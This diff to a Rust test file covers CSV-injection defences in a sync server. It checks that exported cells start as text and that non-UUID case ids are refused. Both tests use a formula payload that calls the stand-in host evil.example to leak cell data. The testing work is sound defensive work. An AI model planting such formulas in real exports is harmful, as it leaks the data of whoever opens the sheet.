@@ -148,22 +148,23 @@ async fn csv_export_opens_in_excel_and_geojson_parses() {
     );
 }
 
-/// Issue 13, first finding: a device chooses its case ids, and a formula as one reached the
-/// CSV unguarded. Every cell of every row now reads as text in a spreadsheet.
+/// Issue 13, first finding: a device chose its case ids, and a formula as one reached the CSV
+/// unguarded. Case ids are UUIDs now (`formula_case_id_is_refused`), so the formula rides in the
+/// description, free text a device does choose: every cell of every row still reads as text in
+/// a spreadsheet.
 #[tokio::test]
 async fn no_csv_cell_starts_a_formula_whatever_a_device_sent() {
     use yiwang_tests::kit::ops;
     let s = TestServer::start().await;
     let worker = s.login("worker-0001").await;
     let formula = "=HYPERLINK(\"https://evil.example/?\"&E2,\"详情\")";
+    let mut finding = ops::finding(&ops::new_id(), G1, "report", Some(&ops::new_id()));
+    finding["data"]["description"] = json!(formula);
     let push = s
         .post(
             &worker,
             "/api/v1/sync/push",
-            &json!({
-                "device_id": "dev-worker-0001",
-                "ops": [ops::finding(&ops::new_id(), G1, "report", Some(formula))]
-            }),
+            &json!({"device_id": "dev-worker-0001", "ops": [finding]}),
         )
         .await;
     let body: Value = push.json().await.unwrap();
@@ -188,10 +189,50 @@ async fn no_csv_cell_starts_a_formula_whatever_a_device_sent() {
                 "a cell a spreadsheet would evaluate: {c:?}"
             );
         }
-        found |= record.get(0) == Some(&format!("'{formula}")[..]);
+        found |= record.iter().any(|c| c == format!("'{formula}"));
     }
     assert!(rows > 0, "the export has rows");
-    assert!(found, "the case is there, its id shown as text");
+    assert!(found, "the case is there, its description shown as text");
+}
+
+/// Issue 13, first finding: a formula (or any text but a UUID) as a case id is refused, and no
+/// case or finding is stored under it.
+#[tokio::test]
+async fn formula_case_id_is_refused() {
+    use yiwang_tests::kit::ops;
+    let s = TestServer::start().await;
+    let worker = s.login("worker-0001").await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&E2,\"详情\")";
+    let upper = ops::new_id().to_uppercase();
+    let before = s.ledger().case_count().await;
+    for bad in [formula, "c0", upper.as_str()] {
+        let finding_id = ops::new_id();
+        let push = s
+            .post(
+                &worker,
+                "/api/v1/sync/push",
+                &json!({
+                    "device_id": "dev-worker-0001",
+                    "ops": [ops::finding(&finding_id, G1, "report", Some(bad))]
+                }),
+            )
+            .await;
+        let body: Value = push.json().await.unwrap();
+        let r = &body["results"][0];
+        assert_eq!(
+            r["status"], "rejected",
+            "a case id {bad:?} is no UUID: {body}"
+        );
+        assert_eq!(r["code"], "invalid_input", "{body}");
+        assert!(r["message"].as_str().unwrap().contains("case_id"), "{body}");
+        let view = s.ledger();
+        let case = view.case(&yiwang_core::ids::CaseId::new(bad)).await;
+        let fid = yiwang_core::ids::FindingId::new(finding_id);
+        let finding = view.ledger.read(move |tx| tx.finding(&fid)).await.unwrap();
+        let stored = (case.is_some(), finding.is_some());
+        assert_eq!(stored, (false, false), "nothing stored for case id {bad:?}");
+    }
+    assert_eq!(s.ledger().case_count().await, before, "no case was opened");
 }
 
 /// An export longer than one page of the stream lists every case the list holds, in the list's
